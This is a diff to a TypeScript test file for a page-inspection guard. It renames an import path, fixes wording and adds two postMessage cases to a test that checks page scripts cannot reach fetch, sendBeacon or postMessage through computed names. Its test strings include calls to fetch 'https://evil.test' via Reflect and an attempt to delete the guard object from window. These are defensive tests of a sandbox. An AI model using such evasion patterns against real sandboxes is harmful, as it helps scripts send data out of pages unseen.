@@ -1,5 +1,5 @@
 import { assert, describe, it } from "@effect/vitest"
-import { guardNames } from "../../../src/domain/inspection/GuardedNames.ts"
+import { guardNames } from "../../../src/domain/inspection/linking/GuardedNames.ts"
 import { loadSourceParsers } from "../../../src/domain/inspection/SourceParsers.ts"
 import { pieces } from "../../domain/inspection/scriptFixtures.ts"
 import { openView, viewDocument } from "../harness/index.ts"
@@ -56,7 +56,7 @@ const run = async (
 
 const OUT_OF_REACH = /out of reach of this page/u
 
-describe("names that inspection can not know to lead out of the page", () => {
+describe("names that inspection cannot know to lead out of the page", () => {
   const payloads = pieces("guarded.txt")
   const size = 10
   const groups = Array.from({ length: Math.ceil(payloads.length / size) }, (_, at) =>
@@ -75,7 +75,7 @@ describe("names that inspection can not know to lead out of the page", () => {
   })
 })
 
-it("what leads out of the page is in no copy, and what checks names can not be replaced", async () => {
+it("what leads out of the page is in no copy, and what checks names cannot be replaced", async () => {
   const { noted } = await run(
     `const copy = {}
      try { Object.assign(copy, window) } catch {}
@@ -151,6 +151,8 @@ describe("a name that a page computes", () => {
           `pick(Reflect, "getOwnPropertyDescriptor")(window, "fetch").value("https://evil.test")`,
           `pick(Navigator.prototype, "sendBeacon")`,
           `pick(MessagePort.prototype, "postMessage")`,
+          `new MessageChannel().port1.postMessage(1)`,
+          `({ port1: top }).port1.postMessage({}, "*")`,
           `(Reflect).get(window, "fetch")("https://evil.test")`,
           `globalThis.Reflect["get"](() => 1, "constructor")`,
           `((R) => R.deleteProperty(window, "mcpGenUi"))(Reflect)`,
@@ -162,6 +164,6 @@ describe("a name that a page computes", () => {
     )
     assert.deepStrictEqual(hits, [])
     for (const said of noted) assert.match(String(said), OUT_OF_REACH)
-    assert.lengthOf(noted, 32)
+    assert.lengthOf(noted, 34)
   })
 })
